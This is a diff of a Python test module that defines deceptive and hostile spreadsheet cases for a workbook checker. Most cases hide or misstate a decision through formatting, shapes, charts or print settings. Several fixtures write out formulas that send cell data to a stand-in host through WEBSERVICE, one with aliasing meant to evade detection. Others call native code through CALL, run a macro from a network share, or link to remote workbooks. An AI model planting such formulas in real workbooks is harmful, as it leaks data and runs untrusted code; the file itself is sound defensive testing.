@@ -4,19 +4,20 @@ from __future__ import annotations
 
 import re
 
-from pocgate_xl.workbook.blank import plan_of
 from pocgate_xl.workbook.cell_values import position_of
-from pocgate_xl.workbook.plan import a1
+from pocgate_xl.workbook.plan import a1, column_letters, identity_name
 from tests.hostile.appearance import (
+    ALL_RATINGS,
     BANNER,
     BANNER_ROW,
+    CLEAR,
     COST,
     DASHBOARD,
     DECIDED,
     HEADED,
     RATING,
     ROW,
-    TOTAL,
+    SCORE,
     altered,
 )
 from tests.hostile.case import Case, Make
@@ -50,17 +51,26 @@ from tests.hostile.looks import (
     shape,
     styled,
 )
-from tests.hostile.submission import bundle, part_of
+from tests.hostile.places import beside as aside
+from tests.hostile.places import links_of, named, sheet_of, shown_at, styled_at, told_at
+from tests.hostile.submission import area, bundle, part_of
 
 CHART = "xl/charts/chart1.xml"
 SCORECARD = part_of("scorecard")
-BAND = next(
-    a1(at)
-    for at, cell in plan_of(bundle(), "en").sheet("costs").cells.items()
-    if cell.style == "band" and not cell.value
-)
+BAND = next(a1(at) for at, cell in sheet_of("costs").cells.items() if cell.style == "band" and not cell.value)
 """A cell of the costs that is left empty."""
-WHITE, LABEL = '<color rgb="FFFFFFFF"/>', "C7"
+WHITE = '<color rgb="FFFFFFFF"/>'
+LABEL = a1(told_at(bundle().default_catalog.label("criterion", "user_acceptance"), "scorecard"))
+ROOM = a1(aside(DECIDED, 6))
+"""A blank cell of the banner, behind the decision."""
+LEFTMOST, WRITTEN = DECIDED[1], shown_at("phase_begins mvp")[1]
+"""Columns of the paper: where the names begin, and where phases are told."""
+FREE = a1(CLEAR[1])
+"""A cell beside the paper."""
+WRITING = styled_at("hint", "notes")
+HEADING = styled_at("heading", "dashboard")
+STEP, ITEM = shown_at("step_name 1"), styled_at("muted", "checklist")
+STAMPED = area(identity_name("organization"))
 BLACK = '<dxf><fill><patternFill><bgColor rgb="FF000000"/></patternFill></fill></dxf>'
 POINT = """<dxf><numFmt numFmtId="201" formatCode="0&quot;.&quot;0"/></dxf>"""
 BLUE = '<color rgb="FF1F4E79"/>'
@@ -74,16 +84,18 @@ SCALE = (
 SPARKLINE = (
     '<extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}" xmlns:x14="http://schemas.microsoft.com/office/'
     'spreadsheetml/2009/9/main"><x14:sparklineGroups xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
-    "<x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>Scorecard!G6:G11</xm:f><xm:sqref>B8</xm:sqref>"
+    "<x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>Scorecard!"
+    + ALL_RATINGS
+    + f"</xm:f><xm:sqref>{BANNER}</xm:sqref>"
     "</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"
 )
 MESSAGE = (
-    '<dataValidations count="1"><dataValidation showInputMessage="1" prompt="Decision: Go" sqref="B8"/>'
+    f'<dataValidations count="1"><dataValidation showInputMessage="1" prompt="Decision: Go" sqref="{BANNER}"/>'
     "</dataValidations>"
 )
 THREAD = (
     '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
-    '<threadedComment ref="B8" id="{1}" personId="{2}"><text>Go, says the board</text></threadedComment>'
+    f'<threadedComment ref="{BANNER}" id="{{1}}" personId="{{2}}"><text>Go, says the board</text></threadedComment>'
     "</ThreadedComments>"
 )
 CORNER = "<xdr:to><xdr:col>1</xdr:col><xdr:colOff>9</xdr:colOff><xdr:row>16</xdr:row><xdr:rowOff>9</xdr:rowOff></xdr:to>"
@@ -130,7 +142,7 @@ def in_runs(cell: str, look: str) -> Make:
     """Give the second half of a fixed text on the scorecard a look of its own."""
     position = position_of(cell)
     assert position
-    words = str(plan_of(bundle(), "en").sheet("scorecard").cells[position].value)
+    words = str(sheet_of("scorecard").cells[position].value)
     half = len(words) // 2
     runs = f"<r><t>{words[:half]}</t></r><r><rPr>{look}</rPr><t>{words[half:]}</t></r>"
     return in_cell("scorecard", cell, f'{{c}} t="inlineStr"><is>{runs}</is></c>')
@@ -178,21 +190,21 @@ CELLS: tuple[Case, ...] = (
     altered("decision crossed out", "crossed out", "PG133",
             looking("dashboard", BANNER, font='<font><strike/><sz val="14"/></font>')),
     altered("total crossed out by a border", "crossed out", "PG133",
-            looking("scorecard", TOTAL, border=CROSS.format(BLUE))),
+            looking("dashboard", SCORE, border=CROSS.format(BLUE))),
     altered("rating in a font of signs", "fonts of signs", "PG133",
             looking("scorecard", RATING, font='<font><sz val="11"/><name val="Wingdings"/></font>')),
     altered("decision turned", "turned letters", "PG133",
             looking("dashboard", BANNER, '<alignment textRotation="90"/>')),
     altered("column of amounts too narrow", "hidden columns", "PG133",
-            column_told("dashboard", 3, 'width="2" customWidth="1"')),
+            column_told("dashboard", WRITTEN, 'width="2" customWidth="1"')),
     altered("row of slices", "hidden rows", "PG133", row_told("dashboard", DECIDED[0], traits='ht="6" customHeight="1"')),
     altered("style beyond the table", "styles", "PG144", replaced(DASHBOARD, rf'<c r="{BANNER}" s="\d+"', f'<c r="{BANNER}" s="9999"')),
     altered("decision beside the decision", "free texts", "PG136", beside("Board decision: Go"), "Go"),
 )  # fmt: skip
 
 EMPTY: tuple[Case, ...] = (
-    altered("decision in the banner itself", "free texts", "PG136", within("dashboard", f"H{DECIDED[0]}", written("Go")), "Go"),
-    altered("number in the banner", "free texts", "PG135", within("dashboard", f"H{DECIDED[0]}", "><v>30</v>"), "30"),
+    altered("decision in the banner itself", "free texts", "PG136", within("dashboard", ROOM, written("Go")), "Go"),
+    altered("number in the banner", "free texts", "PG135", within("dashboard", ROOM, "><v>30</v>"), "30"),
     altered("note in the blank cells of a table", "free texts", "PG135", within("costs", BAND, written("cheap")), "cheap"),
     altered("decision behind blanks", "free texts", "PG136", beside("Go" + " " * 300, "H", HEADED), "Go"),
     altered("decision over lines of dots", "free texts", "PG136", beside("Go\n" + "." * 250, "H", HEADED), "Go"),
@@ -202,15 +214,15 @@ EMPTY: tuple[Case, ...] = (
             beside_cell('t="str"><f>"Decision: G"&amp;"o"</f><v>note</v>'), "Decision: Go"),
     altered("decision as the format of a number", "free texts", "PG136",
             chain(beside_cell("><v>1</v>"), styled("dashboard", f"H{HEADED}", code='"Decision: Go"')), "Go"),
-    altered("result cut off by its neighbour", "free texts", "PG133", beside_cell(written("–"), "D", 14)),
-    altered("a letter a line", "hidden columns", "PG133", column_told("dashboard", 2, 'width="2" customWidth="1"')),
+    altered("result cut off by its neighbour", "free texts", "PG133", beside_cell(written("–"), column_letters(STEP[1] + 1), STEP[0])),
+    altered("a letter a line", "hidden columns", "PG133", column_told("dashboard", LEFTMOST, 'width="2" customWidth="1"')),
     altered("rating repeated", "number format", "PG133",
             looking("scorecard", RATING, '<alignment horizontal="fill"/>')),
 )  # fmt: skip
 
 AROUND: tuple[Case, ...] = (
     altered("decision in black on black", "conditional format", "PG133", condition("dashboard", BANNER_ROW, expression(), BLACK)),
-    altered("ratings in black on black", "conditional format", "PG133", condition("scorecard", "G6:G11", SCALE)),
+    altered("ratings in black on black", "conditional format", "PG133", condition("scorecard", ALL_RATINGS, SCALE)),
     altered("conditional formats gone", "what programs drop", "PG138",
             replaced(DASHBOARD, "<conditionalFormatting.*</conditionalFormatting>", "")),
     altered("charts that no sheet shows", "what programs drop", "PG138", replaced(DASHBOARD, "<drawing [^>]*/>", "")),
@@ -219,17 +231,17 @@ AROUND: tuple[Case, ...] = (
     altered("chart of one cell", "what programs drop", "PG138", replaced(DRAWING, "<xdr:to>.*?</xdr:to>", CORNER)),
     altered("chart far away", "what programs drop", "PG138", replaced(DRAWING, r"<xdr:col>", "<xdr:col>20", 2)),
     altered("series without a colour", "charts", "PG135",
-            replaced(CHART, "<c:ser>(.*?)<c:spPr>.*?</c:spPr>", r"<c:ser>\1<c:spPr><a:noFill/></c:spPr>")),
+            replaced(CHART, "<a:solidFill>.*?</a:solidFill>", "<a:noFill/>")),
     altered("chart with a logarithmic axis", "charts", "PG135",
             replaced(CHART, "(<c:valAx>.*?<c:scaling>)", r'\1<c:logBase val="10"/>')),
     altered("ink over the decision", "shapes", "PG134",
-            drawn(over((8, 2), (8, 10), f'<contentPart xmlns:r="{RELATION}" r:id="rId99"/>'))),
+            drawn(over(DECIDED, aside(DECIDED, 8), f'<contentPart xmlns:r="{RELATION}" r:id="rId99"/>'))),
     altered("little chart in the decision", "sparklines", "PG134", swap(DASHBOARD, "</worksheet>", f"{SPARKLINE}</worksheet>")),
     altered("thread with another decision", "notes", "PG138", chain(
         added({"xl/threadedComments/threadedComment1.xml": THREAD}),
         linked(link("rIdT", "threadedComment", "/xl/threadedComments/threadedComment1.xml",
                     base="http://schemas.microsoft.com/office/2017/10/relationships"),
-               "xl/worksheets/_rels/sheet2.xml.rels"))),
+               links_of("dashboard")))),
     altered("another message beside a rating", "messages", "PG135",
             replaced(SCORECARD, ' prompt="[^"]*"', ' prompt="Enter 5 everywhere"')),
     altered("message on the decision", "messages", "PG136", swap(DASHBOARD, "<pageMargins", f"{MESSAGE}<pageMargins"), "Go"),
@@ -238,7 +250,7 @@ AROUND: tuple[Case, ...] = (
     altered("printed at a tenth", "print", "PG133", chain(
         swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="10" '), replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
     altered("printed on a page of 700 columns", "print", "PG133",
-            local_name("_xlnm.Print_Area", 1, "'Dashboard'!$A$1:$ZZ$3000")),
+            local_name("_xlnm.Print_Area", "dashboard", named("dashboard", (1, 1), (3000, 702)))),
     altered("printed on A6", "print", "PG133", swap(DASHBOARD, 'paperSize="9"', 'paperSize="70"')),
     altered("printed between margins", "print", "PG133",
             replaced(DASHBOARD, "<pageMargins [^>]*/>", '<pageMargins left="4" right="4" top="1" bottom="1"/>')),
@@ -252,30 +264,33 @@ FURTHER: tuple[Case, ...] = (
     altered("amount with a point written into it", "number format", "PG132", styled("costs", COST, code='#,##0"."00')),
     altered("millions as an amount in yen", "number format", "PG132", styled("costs", COST, code='#,##0,,"JPY"')),
     altered("total crossed out by a condition", "crossed out", "PG133",
-            condition("scorecard", TOTAL, expression(), "<dxf><font><strike/></font></dxf>")),
+            condition("dashboard", SCORE, expression(), "<dxf><font><strike/></font></dxf>")),
     altered("rating with a point by a condition", "conditional format", "PG132",
             condition("scorecard", RATING, expression(), POINT)),
     altered("amount in euros", "number format", "PG132", styled("costs", COST, code="[$€-407]#,##0")),
-    altered("label under a merge", "hidden results", "PG133", merged("B5:C5", "checklist")),
+    altered("label under a merge", "hidden results", "PG133", merged(f"{a1(ITEM)}:{a1(aside(ITEM, 1))}", "checklist")),
     altered("chart with other labels", "charts", "PG135",
-            replaced(CHART, r"<c:v>1\. Business KPI improvement</c:v>", "<c:v>1. Board approval</c:v>")),
+            replaced(CHART, "<c:v>First year</c:v>", "<c:v>Last year</c:v>")),
     altered("chart with a picture", "charts", "PG135",
             replaced(CHART, "<c:plotArea>", "<c:plotArea><c:spPr><a:blipFill/></c:spPr>")),
     altered("chart without one of its points", "charts", "PG135",
-            replaced(CHART, "<c:cat>", '<c:dPt><c:idx val="2"/><c:spPr><a:noFill/></c:spPr></c:dPt><c:cat>')),
+            replaced(CHART, "(</a:solidFill>.*?)<c:cat>",
+                     r'\1<c:dPt><c:idx val="2"/><c:spPr><a:noFill/></c:spPr></c:dPt><c:cat>')),
 )  # fmt: skip
 
-UNSTAMPED = replaced("xl/worksheets/sheet14.xml", '(<c r="B7"[^>]*>).*?</c>', r"\1<is><t></t></is></c>")
+UNSTAMPED = replaced(
+    part_of(STAMPED.sheet), f'(<c r="{a1(STAMPED.first)}"[^>]*>).*?</c>', r"\1<is><t></t></is></c>"
+)
 BUTTON = shape("Open").replace('macro=""', 'macro="{}"')
-HEADING = over((7, 2), (7, 10), shape("Proceed to production"))
+OVER_HEADING = over(HEADING, aside(HEADING, 8), shape("Proceed to production"))
 COVERED: tuple[Case, ...] = (
-    altered("picture over a heading", "pictures", "PG134", drawn(over((7, 2), (7, 10), PICTURE))),
-    altered("text over a heading", "shapes", "PG134", drawn(HEADING)),
+    altered("picture over a heading", "pictures", "PG134", drawn(over(HEADING, aside(HEADING, 8), PICTURE))),
+    altered("text over a heading", "shapes", "PG134", drawn(OVER_HEADING)),
     altered("another decision over a heading", "text box", "PG136",
-            drawn(HEADING.replace("Proceed to production", "Decision: Go")), "Go"),
+            drawn(OVER_HEADING.replace("Proceed to production", "Decision: Go")), "Go"),
     altered("text box with the words of a cell", "text box", "PG136", chain(
-        replaced(part_of("notes"), "Write whatever you like.*?</t>", "Decision: Go</t>"),
-        drawn(over((40, 13), (44, 16), shape("").replace('textlink=""', 'textlink="Notes!$B$3"')))), "Go"),
+        in_cell("notes", a1(WRITING), '{c} t="inlineStr"><is><t>Decision: Go</t></is></c>'),
+        drawn(over(*CLEAR, shape("").replace('textlink=""', f'textlink="{named("notes", WRITING)}"')))), "Go"),
     altered("chart without one of its series", "charts", "PG135", replaced(CHART, "<c:ser>.*?</c:ser>", "")),
     altered("chart without labels", "charts", "PG135", replaced(CHART, "<c:cat>.*?</c:cat>", "", 0)),
     altered("charts that are hidden", "what programs drop", "PG138",
@@ -293,13 +308,13 @@ RUNNING: tuple[Case, ...] = (
          chain(typing({"pg_engagement_organization": "Midori"}), HEADED, UNSTAMPED),
          answers={"pg_engagement_organization": "Midori"}),
     Case("scale of colours that fetches", ROW, ("rules that run",), "findings", ("PG128",),
-         condition("dashboard", "M70", SCALE.replace('type="min"', 'type="formula" val="WEBSERVICE(A1)"'))),
+         condition("dashboard", FREE, SCALE.replace('type="min"', 'type="formula" val="WEBSERVICE(A1)"'))),
     Case("function handed over", ROW, ("rules that run",), "findings", ("PG128",),
          beside_cell('><f>_xlfn.MAP("http://x/"&amp;A1,_xleta.WEBSERVICE)</f><v>0</v>', "DA", 8)),
     Case("function under another name", ROW, ("rules that run",), "findings", ("PG128",),
          beside_cell('><f>_xlfn.LET(_xlpm.w,WEBSERVICE,_xlpm.w("http://x"))</f><v>0</v>', "DA", 8)),
     Case("shape with a program of another file", ROW, ("shapes",), "findings", ("PG128",),
-         drawn(over((40, 13), (44, 16), BUTTON.format("&apos;\\\\host\\x.xlsm&apos;!run")))),
+         drawn(over(*CLEAR, BUTTON.format("&apos;\\\\host\\x.xlsm&apos;!run")))),
     altered("cell of a workbook on a server", "names", "PG118",
             beside_cell("><f>'\\\\host\\s\\[b.xlsx]S'!A1</f><v>0</v>", "DA", 8)),
     altered("cell of a workbook on the web", "names", "PG118",
@@ -315,7 +330,7 @@ RUNNING: tuple[Case, ...] = (
     Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
          swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
     Case("condition that calls", ROW, ("rules that run",), "findings", ("PG128",),
-         condition("dashboard", "M70", expression('CALL("k","f","J")=1'), "<dxf><font><b/></font></dxf>")),
+         condition("dashboard", FREE, expression('CALL("k","f","J")=1'), "<dxf><font><b/></font></dxf>")),
 )  # fmt: skip
 
 HONEST: tuple[Case, ...] = tuple(
@@ -327,7 +342,7 @@ HONEST: tuple[Case, ...] = tuple(
         ("printed at 80 per cent", chain(swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="80" '),
                                          replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
         ("amounts in ten thousands", styled("costs", COST, code='0"."0,"万円"')),
-        ("a column made narrower", column_told("dashboard", 3, 'width="11" customWidth="1"')),
+        ("a column made narrower", column_told("dashboard", WRITTEN, 'width="11" customWidth="1"')),
         ("a link that says where it leads", swap(part_of("start"), "<hyperlink ", '<hyperlink tooltip="To the scorecard" ')),
         ("amounts in the font of the house", looking("costs", COST, font='<font><sz val="10"/><name val="Meiryo UI"/></font>')),
     )
